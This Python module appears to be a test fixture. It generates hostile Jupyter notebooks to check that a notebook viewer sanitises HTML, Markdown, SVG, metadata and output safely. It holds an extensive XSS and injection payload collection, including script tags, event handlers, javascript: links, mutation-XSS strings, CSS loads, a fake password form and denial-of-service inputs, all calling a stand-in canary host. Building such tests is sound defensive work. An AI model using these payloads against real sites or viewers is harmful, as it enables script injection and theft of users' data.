"""Notebooks that attack whoever looks at them, and what a safe page consists of.

The attacks call an address, which a test listens at: a request, or a changed title, shows that something has acted.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from typing import Any

__all__ = ["NOWHERE", "PLAIN", "hostile_notebooks", "notebook_bytes"]

NOWHERE = "http://canary.invalid"

PLAIN = {"name": "python3", "display_name": "Python 3", "language": "python"}
_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def notebook_bytes(*cells: Mapping[str, Any], **metadata: Any) -> bytes:
    """Return a notebook as a file, valid or not."""
    return json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}).encode()


def code(*outputs: Mapping[str, Any], source: Any = "1", **fields: Any) -> dict[str, Any]:
    """Return a code cell that has run."""
    known = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": source, "outputs": outputs}
    return {**known, **fields}


def shown(data: Any, **fields: Any) -> dict[str, Any]:
    """Return an output that displays data by MIME types."""
    return {"output_type": "display_data", "metadata": {}, "data": data, **fields}


def printed(text: Any, name: str = "stdout") -> dict[str, Any]:
    """Return a piece of a stream."""
    return {"output_type": "stream", "name": name, "text": text}


def markdown(source: Any, **fields: Any) -> dict[str, Any]:
    """Return a Markdown cell."""
    return {"cell_type": "markdown", "metadata": {}, "source": source, **fields}


def error(**fields: Any) -> dict[str, Any]:
    """Return an output with an exception."""
    return {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["t"], **fields}


def hostile_notebooks(canary: str = NOWHERE) -> dict[str, bytes]:
    """Return the notebooks by name.

    :param canary: address that the attacks call.
    """
    act = f"fetch('{canary}/ran');document.title='ran'"
    found = {f"html: {name}": notebook_bytes(code(shown({"text/html": html})), markdown(html), code(shown({
        "text/markdown": html}))) for name, html in _html(canary, act).items()}  # fmt: skip
    found |= {f"markdown: {name}": notebook_bytes(cell) for name, cell in _markdown(canary, act).items()}
    found |= {f"svg: {name}": notebook_bytes(code(shown({"image/svg+xml": svg})), code(shown({"text/html": svg})), code(
        shown({"text/html": f'<img src="data:image/svg+xml;base64,{_encoded(svg)}">'})
    )) for name, svg in _svg(canary, act).items()}  # fmt: skip
    found |= {f"cell: {name}": notebook_bytes(*cells) for name, cells in _cells(canary, act).items()}
    found |= {f"metadata: {name}": content for name, content in _metadata(act).items()}
    return found


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _html(canary: str, act: str) -> dict[str, str]:
    """Return hostile HTML by name."""
    return {
        "script": f"<script>{act}</script><SCRIPT SRC={canary}/x.js></SCRIPT><scr<script>ipt>{act}</scr</script>ipt>",
        "script in other elements": f"<svg><script>{act}</script></svg><math><script>{act}</script></math>",
        "module and import map": f'<script type="importmap">{{}}</script><script type=module>{act}</script>',
        "event handlers": f"""
            <img src=x onerror="{act}"><body onload="{act}"><svg onload="{act}"><details open ontoggle="{act}">
            <input autofocus onfocus="{act}"><video><source onerror="{act}"></video><marquee onstart="{act}">x</marquee>
            <p onmouseover="{act}" onclick={act} OnWheel="{act}" style="animation:x" onanimationstart="{act}">p</p>
            <img/src="x"/onerror="{act}"><img src=x\tonerror\n=\n"{act}">
            <a onfocus="{act}" tabindex=1 autofocus>a</a>""",
        "links with scripts": f"""
            <a href="javascript:{act}">1</a><a href=" &#14; jAvAsCrIpT:{act}">2</a><a href="java&#10;script:{act}">3</a>
            <a href="&#106;avascript:{act}">4</a><a href="\x01javascript:{act}">5</a><a href="vbscript:x">6</a>
            <a href="data:text/html,<script>{act}</script>">7</a><a href="DATA:text/html;base64,PHNjcmlwdD4=">8</a>
            <a href="file:///etc/passwd">9</a><a href="blob:x">10</a><a href="view-source:x">11</a>
            <a href="//canary.invalid">12</a><a href="/etc">13</a><a href="?x=1">14</a><a href="x.html">15</a>
            <a xlink:href="javascript:{act}" href="feed:javascript:{act}">16</a><area href="javascript:{act}">""",
        "links that leave the frame": f"""
            <a href="https://example.com" target="_top" ping="{canary}/ping" rel="opener" download>1</a>
            <base href="{canary}/" target="_top"><a href="#x" target="_parent">2</a>""",
        "pictures from elsewhere": f"""
            <img src="{canary}/1"><img srcset="{canary}/2 1x"><picture><source srcset="{canary}/3"><img></picture>
            <image src="{canary}/4"><input type=image src="{canary}/5"><img src="//canary.invalid/6">
            <img src="data:image/png;base64,{_PIXEL}" srcset="{canary}/7" lowsrc="{canary}/8" longdesc="{canary}/9">
            <img src=" {canary}/10"><img src="data:text/html,x"><img src="data:image/svg+xml,%3Csvg onload='{act}'/%3E">
            <img loading=lazy decoding=async crossorigin src="{canary}/11"><img src="/static/12" style="width:1px">""",
        "media and objects": f"""
            <video src="{canary}/1" poster="{canary}/2" autoplay></video><audio src="{canary}/3" autoplay></audio>
            <object data="{canary}/4"></object><embed src="{canary}/5"><applet code="{canary}/6"></applet>
            <iframe src="{canary}/7"></iframe><iframe srcdoc="<script>{act}</script>"></iframe>
            <frameset><frame src="{canary}/8"></frameset><portal src="{canary}/9"></portal>
            <fencedframe src="{canary}/10"></fencedframe><track src="{canary}/11"><bgsound src="{canary}/12">""",
        "links of a head": f"""
            <link rel=stylesheet href="{canary}/1"><link rel=preload as=image href="{canary}/2">
            <link rel=dns-prefetch href="{canary}/3"><link rel=prefetch href="{canary}/4">
            <link rel=icon href="{canary}/5">
            <meta http-equiv=refresh content="0;url={canary}/6"><meta http-equiv="Content-Security-Policy" content="">
            <meta http-equiv=set-cookie content=x><meta name=referrer content=unsafe-url><title>ran</title>""",
        "forms": f"""
            <form action="{canary}/1" method=post target=_top><input name=password type=password><button>Log in</button>
            </form><button formaction="javascript:{act}">x</button><input type=submit form=x><select><option>1</select>
            <textarea>x</textarea><keygen autofocus onfocus="{act}"><isindex action="{canary}/2">""",
        "backgrounds": f"""
            <table background="{canary}/1"><tr background="{canary}/2"><td background="{canary}/3">x</td></tr></table>
            <body background="{canary}/4"><p style="background:url({canary}/5)">x</p>""",
        "style sheets": f"""
            <style>@import "{canary}/1"; body {{ background: url({canary}/2) }} @font-face {{ font-family: x;
            src: url({canary}/3) }} * {{ font-family: x; display: none !important }}</style><style>x""",
        "style attributes that load": f"""
            <p style="background-image:url('{canary}/1')">1</p><p style="b\\61ckground:\\75rl({canary}/2)">2</p>
            <p style="list-style:url({canary}/3);cursor:url({canary}/4),auto;content:url({canary}/5)">3</p>
            <p style="background-color:url({canary}/6);color:image-set('{canary}/7' 1x)">4</p>
            <p style="width:expression({act});behavior:url({canary}/8);-moz-binding:url({canary}/9)">5</p>
            <p style="mask:url({canary}/10);filter:url({canary}/11#x);border-image:url({canary}/12)">6</p>
            <p style="color:/*;*/red;x:url({canary}/13)">7</p>
            <p style='font-family:"}}x{{background:url({canary}/14)'>8</p>
            <p style="color:red;}}*{{background:url({canary}/15)}}">9</p>
            <p style="color:var(--x,url({canary}/16))">10</p>""",
        "style attributes that cover the page": """
            <div style="position:fixed;inset:0;z-index:9999;background-color:white">gone</div>
            <div style="position:absolute;top:0;left:0;width:100vw;height:100vh">gone</div>
            <div style="margin:-9999px;transform:scale(99);float:left;clip-path:none;opacity:.01">gone</div>
            <div style="animation:x 1s;display:contents;visibility:hidden;pointer-events:none">gone</div>""",
        "ids and names of the page": """
            <a id="failed-cell" name="failed-cell">here</a><h1 id="cell-1">x</h1><form name="body"></form>
            <img name="cookie"><div id="in-notebook-x" class="cell code failed">x</div><p id="x y">x</p>
            <a href="#failed-cell">x</a><a href="#&quot;><img>">x</a><p class="badge bad failure">failed</p>""",
        "ends of the page": f"""
            </div></article></main></body></html><script>{act}</script><p>after</p></style></title></textarea>--></pre>
            ]]><![CDATA[<script>{act}</script>]]><?php x ?><!DOCTYPE html><html onclick="{act}" lang="x"><head>
            <body>""",
        "open ends": f"""<a href="{canary}/1"><b><table><details><!-- <p title='""",
        "raw text elements": f"""<plaintext><xmp><script>{act}</script></xmp><noscript><p title="</noscript><img src=x
            onerror={act}>"></noscript><noembed><img src=x onerror={act}></noembed><noframes><script>{act}</script>
            </noframes><listing><img src=x onerror={act}></listing><template><script>{act}</script></template>""",
        "mutations": f"""
            <math><mtext></form><form><mglyph><style></math><img src=x onerror="{act}"></style></mglyph></form>
            <svg></p><style><a id="</style><img src=x onerror={act}>"></svg><svg><title><style><img title="</style><img
            src=x onerror={act}>"></svg><math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img src=x
            onerror={act}>"></math><table><caption><svg><desc><b><style></b><img src=x onerror={act}></style></table>
            <svg><annotation-xml encoding="text/html"><img src=x onerror={act}></annotation-xml></svg>
            <select><template><img src=x onerror={act}></template></select><p id="<img src=x onerror={act}>">x</p>
            <img alt="<img src=x onerror={act}>" title='"><img src=x onerror={act}>'>""",
        "svg in html": f"""
            <svg width=9><a xlink:href="javascript:{act}"><text>x</text></a><use href="{canary}/1#x"/><image
            href="{canary}/2"/><foreignObject><iframe src="{canary}/3"></iframe><img src=x onerror="{act}">
            </foreignObject>
            <animate onbegin="{act}" attributeName=x dur=1s><set attributeName=href to="javascript:{act}"></svg>""",
        "odd characters": f"<scr\x00ipt>{act}</script><img src=x o\x00nerror={act}>\ufeff"
        f"<\u017fcript>{act}</\u017fcript>"
        f"\uff1cscript\uff1e{act}\uff1c/script\uff1e<img src=x onerror\u2028={act}>\ud800<p>\u202e x \u2066</p>",
        "nested elements": "<div>" * 5_000 + "x",
        "nested elements that end": "<div><b>" * 3_000 + "x" + "</b></div>" * 3_000,
        "formatting elements": "".join(f"<font color={n}><i class={n}>" for n in range(5_000)) + "<p>x" * 100,
        "attributes": f"<p {' '.join(f'a{n}=1' for n in range(20_000))}>x</p>",
        "entities": "&lt;script&gt;" + "&amp;" * 10_000 + "&#x1D;&#0;&notanentity;",
        "tags without ends": "<a<a<" * 10_000,
    }  # fmt: skip


def _markdown(canary: str, act: str) -> dict[str, dict[str, Any]]:
    """Return hostile Markdown cells by name."""
    return {
        "links": markdown(
            f"[a](javascript:{act}) [b](<java\nscript:{act}>) [c][d] <javascript:{act}> [e](data:text/html,x)\n"
            f"[f](JaVaScRiPt&colon;{act}) [g](https://example.com 'x\" onclick=\"{act}')\n\n[d]: javascript:{act}\n"
        ),
        "pictures": markdown(f'![a]({canary}/1) ![b](data:text/html,x) ![" onerror="{act}](x) [![c]({canary}/2)](x)'),
        "attachments": markdown(
            "![a](attachment:a) ![b](attachment:b) ![c](attachment:c)",
            attachments={
                "a": {f'x" onerror="{act}': "x"},
                "b": {"image/svg+xml": _encoded(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{act}'/>")},
                "c": {"image/png": f'"><script>{act}</script>'},
            },
        ),
        "missing attachment": markdown("![a](attachment:none)"),
        "attachments of other types": markdown("![a](attachment:a)", attachments={"a": 3}),
        "empty attachment": markdown("![a](attachment:a)", attachments={"a": {}}),
        "code": markdown(f'```"><script>{act}</script>\nx\n```\n\n```mermaid\n</pre><script>{act}</script>\n```\n'),
        "lexer": markdown("```html+evoque\n<script>x</script>\n```\n\n```raw\nx\n```\n\n    <script>x</script>\n"),
        "headings": markdown(f'# <script>{act}</script> [x](javascript:{act})\n\n## "><img src=x onerror={act}>\n'),
        "math": markdown(
            f"$$<script>{act}</script>$$ $<img src=x onerror={act}>$ $\\href{{javascript:{act}}}{{x}}$\n\n"
            f"\\begin{{a}}<script>{act}</script>\\end{{a}} \\\\[</p><script>{act}</script>\\\\] $\\require{{html}}"
            f"\\cssId{{cell-1}}{{x}}\\style{{position:fixed}}{{x}}\\unicode{{<img src=x onerror={act}>}}$"
        ),
        "tables": markdown(
            f"|<script>{act}</script>|b|\n|---|:-:|\n|<img src=x onerror={act}>|[x](javascript:{act})|\n"
        ),
        "tasks and definitions": markdown(f"- [x] <script>{act}</script>\n\nterm\n: <img src=x onerror={act}>\n"),
        "quotes": markdown(">" * 20_000 + "x"),
        "lists": markdown("\n".join("  " * n + "- x" for n in range(2_000))),
        "brackets": markdown("[" * 20_000 + "](" * 20_000),
        "emphasis": markdown("*a_" * 15_000),
        "backticks": markdown("`" * 20_000 + "x" + "`" * 19_999),
        "environments": markdown("\\begin{a}" * 3_000),
        "dollars": markdown("$$ x \\$" * 5_000),
        "long": markdown("<script>x</script>" * 20_000),
        "not text": markdown({"a": 1}),
        "nested text": markdown([["<script>"], 3, f"<script>{act}</script>"]),
    }


def _svg(canary: str, act: str) -> dict[str, str]:
    """Return hostile SVG by name."""
    begin = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"'
    return {
        "script": f'{begin} onload="{act}"><script>{act}</script><script href="{canary}/x.js"/></svg>',
        "foreign object": f"""{begin}><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">
            <iframe src="{canary}/1"></iframe><script>{act}</script><img src="{canary}/2"/></body>
            </foreignObject></svg>""",
        "requests": f"""<?xml-stylesheet href="{canary}/1"?>{begin}>
            <image xlink:href="{canary}/2" width="9" height="9"/>
            <use href="{canary}/3#x"/><style>@import "{canary}/4"; rect {{ fill: url({canary}/5#x) }}</style><rect/>
            <filter id="f"><feImage href="{canary}/6"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>""",
        "links": f'{begin}><a href="javascript:{act}"><rect width="9" height="9"/></a></svg>',
        "animation": f'{begin}><set attributeName="href" onbegin="{act}"/><animate onbegin="{act}" dur="1s"/></svg>',
        "entities": f"""<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c
            "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "{canary}/1">]>{begin}><text>&c;&x;</text></svg>""",
        "broken": f"{begin}><script>{act}</script>",
    }


def _cells(canary: str, act: str) -> dict[str, list[dict[str, Any]]]:
    """Return hostile cells of other kinds by name."""
    tag = f'"></pre><script>{act}</script>'
    lie = _encoded(f"<html><script>{act}</script></html>")
    return {
        "pictures that are none": [
            code(shown({mime: content}))
            for mime in ("image/png", "image/jpeg", "image/gif", "image/webp", "image/svg+xml")
            for content in (tag, lie, "", "x", 3, None, [tag], {"a": tag}, ["iVBORw0KGgo", tag], "iVBORw0KGgo=x")
        ],
        "pictures with metadata": [
            code(shown({"image/png": _PIXEL}, metadata={"image/png": {"width": tag, "height": tag}, "filenames": {
                "image/png": f"{canary}/1"}}))
        ],
        "types with html": [code(shown({f"text/html{tag}": tag, tag: tag, "": tag}))],
        "types that are not text": [
            code(shown({mime: content}))
            for mime in ("text/html", "text/markdown", "text/plain", "text/latex", "application/json")
            for content in (3, None, True, {"a": tag}, [tag], [[tag]], [3, tag], "")
        ],
        "types with scripts": [
            code(shown({"application/javascript": act})),
            code(shown({"application/vnd.jupyter.widget-view+json": {"model_id": tag}})),
            code(shown({"application/vnd.plotly.v1+json": {"data": tag}, "text/html": f"<script>{act}</script>"})),
            code(shown({"text/vnd.mermaid": tag, "text/latex": f"${tag}$"})),
            code(shown({"application/pdf": lie, "application/x-nbjobs-note": {"text": tag}})),
        ],
        "no data": [code(shown(data)) for data in (None, [], "x", 3, {})],
        "text": [code(shown({"text/plain": tag})), code(printed([tag, "\x1b[31m"], name=tag))],
        "errors": [
            code(error(ename=tag, evalue=tag, traceback=[tag, f"\x1b[31m{tag}\x1b[0m"])),
            code(error(traceback=[f"\x1b]8;;javascript:{act}\x07x"])),
            code(error(ename=[tag], evalue={"a": tag}, traceback={"a": tag})),
            code(error(ename=None, evalue=None, traceback=[None, [tag], 3])),
            code(error(traceback=[f"\x1b[{tag}m x", f"\x1b[38;2;{tag}m", "\x1b[38;2;1;2;3mx", "\x1b[48;5;300mx"])),
        ],
        "sources": [
            code(source=tag),
            code(source=f"%%html\n<script>{act}</script>"),
            code(source=f"%%{tag}\n{tag}"),
            code(source=[tag, 3]),
            code(source=None),
            {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html", "format": "text/html"}, "source": tag},
        ],
        "cells": [
            code(id=tag, cell_type=tag),
            code(id=tag, execution_count=tag),
            code(metadata={"tags": [tag, "parameters", {"a": 1}], "transient": tag, "execution": {tag: tag}}),
            code(metadata={"execution": {"iopub.execute_input": tag, "shell.execute_reply": "9999-99-99"}}),
            code(metadata={"execution": {"iopub.execute_input": "0001-01-01", "shell.execute_reply": "9999-12-31"}}),
            code(metadata=[tag]),
            {"cell_type": "code"},
            {},
        ],
        "nested json": [
            code(shown({"application/json": _nested(400)})),
            code(shown({"application/json": _nested(900)})),
            code(metadata={"a": _nested(900)}),
        ],
        "colors": [code(printed("\x1b[31mx\x1b[0m" * 20_000))],
        "color numbers": [code(printed(f"\x1b[{'1;' * 50_000}mx\x1b[{'9' * 9_999}m"))],
        "overwritten lines": [code(printed("x\r\b\t" * 20_000))],
        "many pieces": [code(*[printed(tag)] * 20_000)],
        "many outputs": [code(*[shown({"text/html": "<b>x</b>"})] * 5_000)],
        "many cells": [code()] * 5_100,
    }  # fmt: skip


def _metadata(act: str) -> dict[str, bytes]:
    """Return notebooks with hostile metadata by name."""
    tag = f'"></style></title><script>{act}</script>'
    kernel = {"name": tag, "display_name": tag, "language": tag}
    language = {"name": tag, "pygments_lexer": tag, "mimetype": tag, "file_extension": tag}
    return {
        "kernel": notebook_bytes(code(), kernelspec=kernel, language_info=language, title=tag, authors=[{"name": tag}]),
        "lexer": notebook_bytes(code(source="<% x %>"), language_info={"name": "mako", "pygments_lexer": "html+mako"}),
        "lexer that is no text": notebook_bytes(code(), kernelspec=[tag], language_info={"name": 3}),
        "widgets": notebook_bytes(code(), widgets={"application/vnd.jupyter.widget-state+json": {"state": {tag: tag}}}),
        "papermill": notebook_bytes(code(), papermill={"exception": tag, "parameters": {tag: tag}, "duration": tag}),
        "cut": notebook_bytes(code(shown({"text/html": tag})), code())[:-90],
    }


def _nested(depth: int) -> Any:
    value: Any = "<script>"
    for _ in range(depth):
        value = [value]
    return value
